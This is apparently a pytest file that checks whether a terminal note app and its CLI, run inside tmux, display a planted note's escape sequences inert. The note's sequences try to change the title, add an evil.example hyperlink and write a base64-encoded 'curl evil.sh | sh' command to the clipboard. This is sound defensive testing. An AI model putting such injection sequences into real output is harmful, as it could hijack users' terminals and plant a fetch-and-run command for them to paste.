"""Point 1 in a real terminal: the CLI and the app run in tmux, next to a note full of escape
sequences; the pane title, tmux's clipboard buffers and the screen stay untouched.

tmux with ``set-clipboard on`` stores what an OSC 52 sequence writes in a paste buffer, and
an OSC 0/2 sequence changes ``pane_title``: both are observable without a human.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import time
import uuid

import pytest

from tests.faults.faults_helpers import cli, cli_env

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")

NOTE = ("# Zeppelin \x1b]0;PWNED-TITLE\x07 flights\n\n"
        "zeppelin \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 clipboard \x1b]2;PWNED-TITLE2\x07 "
        "\x1bP+q544e\x1b\\ and \x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\ end\n")


class Tmux:
    def __init__(self, env: dict):
        self.socket = f"pms-faults-{uuid.uuid4().hex[:8]}"
        self.env = env

    def __call__(self, *args: str) -> str:
        return subprocess.run(["tmux", "-L", self.socket, "-f", "/dev/null", *args], capture_output=True,
                              text=True, env=self.env, timeout=30).stdout

    def wait_for(self, needle: str, seconds: float = 120) -> str:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            screen = self("capture-pane", "-p", "-t", "t")
            if needle in screen:
                return screen
            time.sleep(0.2)
        raise AssertionError(f"{needle!r} never appeared:\n{self('capture-pane', '-p', '-t', 't')}")

    def kill(self) -> None:
        self("kill-server")


@pytest.fixture(scope="module")
def evil_note_synced_once(tmp_path_factory):
    """A home whose collection ``notes`` holds NOTE, added and synced with the CLI once."""
    base = tmp_path_factory.mktemp("tmux")
    home, notes = base / "home", base / "notes"
    notes.mkdir()
    (notes / "evil.md").write_text(NOTE, encoding="utf-8")
    cli(home, "add", str(notes), "--name", "notes")
    cli(home, "sync")
    return home


@pytest.fixture
def evil_home(home, evil_note_synced_once):
    """This test's own copy of that home (the app may write its state there)."""
    shutil.copytree(evil_note_synced_once, home)
    return home


def start(tmux: Tmux, command: list[str]) -> None:
    tmux("new-session", "-d", "-s", "t", "-x", "120", "-y", "36", *command)
    tmux("set-option", "-g", "set-clipboard", "on")
    tmux("set-option", "-g", "allow-rename", "on")
    tmux("set-option", "-g", "remain-on-exit", "on")


def assert_untouched(tmux: Tmux) -> None:
    assert "PWNED" not in tmux("display-message", "-p", "-t", "t", "#{pane_title}")
    buffers = tmux("list-buffers")
    assert "curl" not in buffers and "Y3Vyb" not in buffers, buffers
    assert tmux("list-buffers").strip() == ""


def test_cli_search_and_show_in_tmux_leave_title_and_clipboard_alone(evil_home):
    tmux = Tmux(cli_env(evil_home, TERM="xterm-256color"))
    script = (f"{sys.executable} -m pms_tui search zeppelin; {sys.executable} -m pms_tui show notes/evil.md; "
              "echo FINISHED-RUN")
    try:
        start(tmux, ["sh", "-c", script])
        screen = tmux.wait_for("FINISHED-RUN")
        assert "^[" in screen  # the sequences are shown, inert
        assert_untouched(tmux)
    finally:
        tmux.kill()


def test_the_app_in_tmux_shows_the_note_without_obeying_it(evil_home):
    tmux = Tmux(cli_env(evil_home, TERM="xterm-256color"))
    try:
        start(tmux, [sys.executable, "-m", "pms_tui"])
        tmux.wait_for("ctrl")  # the footer is up
        tmux("send-keys", "-t", "t", "-l", "zeppelin clipboard")
        tmux.wait_for("evil.md")
        tmux("send-keys", "-t", "t", "C-r")  # the whole note in the reader
        time.sleep(1.5)
        tmux.wait_for("evil.md")
        assert_untouched(tmux)
        tmux("send-keys", "-t", "t", "C-q")
    finally:
        tmux.kill()
